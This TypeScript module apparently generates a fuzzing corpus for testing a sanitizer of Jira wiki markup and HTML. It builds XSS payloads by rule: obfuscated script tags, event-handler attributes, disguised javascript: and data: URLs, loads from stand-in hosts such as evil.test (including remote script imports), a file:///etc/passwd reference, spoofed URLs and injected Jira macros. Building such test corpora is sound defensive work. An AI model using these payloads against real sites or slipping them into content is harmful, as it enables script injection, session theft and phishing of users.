import { CLOBBERING, MUTATING, STRANGE, TEMPLATES } from "./payloads/known.js";

/**
 * Texts that try to become something else than text. Made by rule, so that each is there with every trick: an element
 * with a handler, an address that runs, markup of Jira with something in its places, and what has fooled cleaners of
 * markup before. Whatever runs calls `ran`, or one of the dialogs; whatever loads asks a host `*.evil.test`.
 */
export function payloads(): string[] {
  return [
    ...new Set([
      ...elements(),
      ...handlers(),
      ...addresses().flatMap(inMarkup),
      ...inJira(addresses()),
      ...macros(),
      ...MUTATING,
      ...CLOBBERING,
      ...TEMPLATES,
      ...STRANGE,
    ]),
  ];
}

const RUN = [
  "ran(1)",
  "alert(1)",
  "window['ran'](1)",
  "top.ran`1`",
  "(0,eval)('ran(1)')",
  "import('//js.evil.test')",
];

/** Elements that run or load as soon as they are there. */
function elements(): string[] {
  const plain = RUN.flatMap((code) => [
    `<script>${code}</script>`,
    `<ScRiPt>${code}</sCrIpT>`,
    `<script >${code}</script >`,
    `<script/x>${code}</script>`,
    `<scr<script>ipt>${code}</scr</script>ipt>`,
    `<script\u0000>${code}</script>`,
    `<script\n>${code}</script>`,
    `<<script>${code}//<</script>`,
    `"><script>${code}</script>`,
    `'><script>${code}</script>`,
    `--><script>${code}</script>`,
    `]]><script>${code}</script>`,
    `</title></textarea></style></noscript></xmp></template><script>${code}</script>`,
    `<svg><script>${code}</script></svg>`,
    `<svg><script href="data:text/javascript,${code}"/></svg>`,
    `<math><script>${code}</script></math>`,
    `<script type=module>${code}</script>`,
    `<script src="data:text/javascript,${code}"></script>`,
    `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
    `<iframe src="javascript:parent.${code}"></iframe>`,
    `<iframe src="data:text/html,<script>parent.${code}</script>"></iframe>`,
    `<object data="data:text/html,<script>${code}</script>"></object>`,
    `<embed src="javascript:${code}">`,
    `<template><script>${code}</script></template>`,
    `&lt;script&gt;${code}&lt;/script&gt;`,
    `&#60;script&#62;${code}&#60;/script&#62;`,
    `\u003cscript\u003e${code}\u003c/script\u003e`,
    `%3Cscript%3E${code}%3C/script%3E`,
    `\uFF1Cscript\uFF1E${code}\uFF1C/script\uFF1E`,
    `<!--[if gte IE 4]><script>${code}</script><![endif]-->`,
    `<?xml-stylesheet href="javascript:${code}"?>`,
    `<x onclick=${code}>`,
  ]);
  const loading = (host: string) => [
    `<img src=//${host}/a.png>`,
    `<img srcset="//${host}/a.png 2x">`,
    `<img lowsrc=//${host}/a.png>`,
    `<picture><source srcset=//${host}/a.png><img></picture>`,
    `<image src=//${host}/a.png>`,
    `<input type=image src=//${host}/a.png>`,
    `<video src=//${host}/a.mp4 poster=//${host}/a.png></video>`,
    `<audio src=//${host}/a.mp3 autoplay></audio>`,
    `<track src=//${host}/a.vtt default>`,
    `<link rel=stylesheet href=//${host}/a.css>`,
    `<link rel=prefetch href=//${host}/>`,
    `<link rel=dns-prefetch href=//${host}/>`,
    `<link rel=preconnect href=//${host}/>`,
    `<style>@import '//${host}/a.css';</style>`,
    `<style>*{background:url(//${host}/a.png)}</style>`,
    `<div style="background:url(//${host}/a.png)">x</div>`,
    `<div style="list-style-image:url(//${host}/a.png);display:list-item">x</div>`,
    `<table background=//${host}/a.png><tr><td>x</table>`,
    `<body background=//${host}/a.png>`,
    `<iframe src=//${host}/></iframe>`,
    `<frameset><frame src=//${host}/></frameset>`,
    `<object data=//${host}/a.swf></object>`,
    `<embed src=//${host}/a.swf>`,
    `<applet code=A archive=//${host}/a.jar></applet>`,
    `<base href=//${host}/>`,
    `<meta http-equiv=refresh content="0;url=//${host}/">`,
    `<form action=//${host}/><button autofocus>x</button></form>`,
    `<svg><image href=//${host}/a.png /></svg>`,
    `<svg><use href=//${host}/a.svg#x /></svg>`,
    `<svg><feImage href=//${host}/a.png /></svg>`,
    `<script src=//${host}/a.js></script>`,
    `<a ping=//${host}/ href=#>x</a>`,
  ];
  return [...plain, ...["evil.test", "tracker.evil.test:8443", "127.0.0.1.evil.test"].flatMap(loading)];
}

/** Elements with something to run in an attribute. */
function handlers(): string[] {
  const events: Record<string, string[]> = {
    onerror: [
      "img src=x",
      "image src=x",
      "video src=x",
      "audio src=x",
      "object data=x",
      "link rel=stylesheet href=x",
      "script src=x",
      "input type=image src=x",
    ],
    onload: [
      "svg",
      "body",
      "iframe",
      "img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=",
      "style",
      "object",
      "embed src=/",
    ],
    onfocus: [
      "input autofocus",
      "select autofocus",
      "textarea autofocus",
      "a href=# autofocus",
      "div tabindex=0 autofocus",
      "button autofocus",
    ],
    ontoggle: ["details open", "div popover"],
    onbegin: ["svg><animate", "svg><set", "svg><animateTransform"],
    onanimationstart: ["div style=animation:x", "b style=animation-name:rotation"],
    ontransitionend: ["div style=transition:all"],
    onpointerenter: ["div", "b"],
    onmouseover: ["a", "b", "marquee"],
    onclick: ["a href=#", "button", "div role=button"],
    onstart: ["marquee"],
    onscroll: ["div style=overflow:scroll"],
    oncut: ["p contenteditable"],
    onpageshow: ["body"],
    onhashchange: ["body"],
    onbeforematch: ["div hidden=until-found"],
    onsecuritypolicyviolation: ["img src=//evil.test/x"],
  };
  const gaps = [" ", "/", "\t", "\n", "\f", " / ", "\u0000 "];
  const code = ["ran(1)", "alert`1`", "&#114;an(1)", "ra\\u006e(1)"];
  return Object.entries(events).flatMap(([event, starts]) =>
    starts.flatMap((start, at) =>
      gaps.flatMap((gap, tried) => {
        const run = code[(at + tried) % code.length];
        const name = tried % 2 === 0 ? event : event.toUpperCase();
        const quoted = [`"${run}"`, `'${run}'`, run][tried % 3];
        return [`<${start.replaceAll(" ", gap === " " ? " " : gap)}${gap}${name}=${quoted}>`];
      }),
    ),
  );
}

/** Addresses that run, or that hide where they lead. */
function addresses(): string[] {
  const schemes = [
    "javascript:ran(1)",
    "JaVaScRiPt:ran(1)",
    "javascript://evil.test/%0aran(1)",
    "javascript://%0aran(1)",
    " javascript:ran(1)",
    "\u0001javascript:ran(1)",
    "java\tscript:ran(1)",
    "java\nscript:ran(1)",
    "java\r\nscript:ran(1)",
    "java\u0000script:ran(1)",
    "javascript\t:ran(1)",
    "javascript :ran(1)",
    "javascript&colon;ran(1)",
    "javascript&#58;ran(1)",
    "&#106;avascript:ran(1)",
    "&#x6A;avascript:ran(1)",
    "&#0000106avascript:ran(1)",
    "j&Tab;avascript:ran(1)",
    "\u2028javascript:ran(1)",
    "\u00a0javascript:ran(1)",
    "\u200bjavascript:ran(1)",
    "\u202ejavascript:ran(1)",
    "\ufeffjavascript:ran(1)",
    "%6aavascript:ran(1)",
    "javascript%3aran(1)",
    "vbscript:ran(1)",
    "livescript:ran(1)",
    "mocha:ran(1)",
    "data:text/html,<script>ran(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
    "DATA:text/html;charset=utf-7,+ADw-script+AD4-ran(1)",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran(1)'/>",
    "data:application/xhtml+xml,<x/>",
    "blob:https://evil.test/1",
    "filesystem:https://evil.test/temporary/x",
    "file:///etc/passwd",
    "view-source:https://evil.test",
    "about:srcdoc",
    "chrome://settings",
    "ms-msdt:/id",
    "jar:https://evil.test!/x",
    "feed:javascript:ran(1)",
    "//evil.test/x",
    "///evil.test/x",
    "\\\\evil.test\\x",
    "/\\evil.test/x",
    "https:evil.test",
    "https://user:secret@evil.test/",
    "https://jira.example.com@evil.test/",
    "https://evil.test\\@jira.example.com/",
    "https://xn--jra-8ma.example/",
    "https://j\u0456ra.example.com/",
    "https://\u202emoc.live/",
    'https://evil.test/"onmouseover="ran(1)',
    "https://evil.test/'><script>ran(1)</script>",
    "mailto:a@b.example?subject=<script>ran(1)</script>",
    "mailto:javascript:ran(1)",
    "tel:<script>ran(1)</script>",
    "http://[::1]:80/%00",
    "http://0x7f000001/",
  ];
  return schemes;
}

/** An address in the markup of pages. */
function inMarkup(address: string): string[] {
  return [
    `<a href="${address}">x</a>`,
    `<a href='${address}'>x</a>`,
    `<a xlink:href="${address}">x</a>`,
    `<img src="${address}">`,
    `<iframe src="${address}"></iframe>`,
    `<form action="${address}"><input type=submit></form>`,
    `<button formaction="${address}">x</button>`,
    `<svg><a href="${address}"><text>x</text></a></svg>`,
  ];
}

/** An address, and a text, in the places that Jira's own markup has for them. */
function inJira(all: string[]): string[] {
  return all.flatMap((address) => [
    address,
    `[x|${address}]`,
    `[${address}]`,
    `[${address}|https://jira.example.com]`,
    `[x|${address}|title]`,
    `!${address}!`,
    `!${address}|thumbnail!`,
    `{panel:title=x|bgColor=${address}}x{panel}`,
    `{color:${address}}x{color}`,
    `*[x|${address}]*`,
    `|[x|${address}]|`,
    `{quote}[x|${address}]{quote}`,
  ]);
}

/** Macros of Jira with something else in their places. */
function macros(): string[] {
  const inside = [
    "<script>ran(1)</script>",
    "<img src=x onerror=ran(1)>",
    '"onmouseover="ran(1)',
    "javascript:ran(1)",
    "//evil.test/x.png",
    "{{7*7}}",
    "url(//evil.test/x)",
    "red;background:url(//evil.test/x)",
    "expression(ran(1))",
    "&lt;script&gt;",
  ];
  return inside.flatMap((text) => [
    `{html}${text}{html}`,
    `{html:${text}}`,
    `{code:${text}}x{code}`,
    `{code:title=${text}|borderStyle=${text}}${text}{code}`,
    `{noformat:${text}}${text}{noformat}`,
    `{color:${text}}x{color}`,
    `{color:red}${text}{color}`,
    `{panel:title=${text}|borderColor=${text}|bgColor=${text}}${text}{panel}`,
    `{quote}${text}{quote}`,
    `{anchor:${text}}`,
    `{include:${text}}`,
    `{iframe:src=${text}}`,
    `{toc:style=${text}}`,
    `[^${text}]`,
    `[~${text}]`,
    `!x.png|${text}!`,
    `!x.png|width=${text},onerror=ran(1)!`,
    `!${text}!`,
    `h1. ${text}`,
    `bq. ${text}`,
    `||${text}||\n|${text}|`,
    `* ${text}\n** ${text}`,
    `# ${text}`,
    `*${text}*`,
    `_${text}_`,
    `??${text}??`,
    `-${text}-`,
    `+${text}+`,
    `^${text}^`,
    `~${text}~`,
    `{{${text}}}`,
    `:${text}:`,
    `\\\\${text}\\\\`,
    `----${text}`,
    `{${text}}`,
    `{${text}}x{${text}}`,
    `[${text}]`,
    `[x|#${text}]`,
    `[x|mailto:${text}]`,
  ]);
}
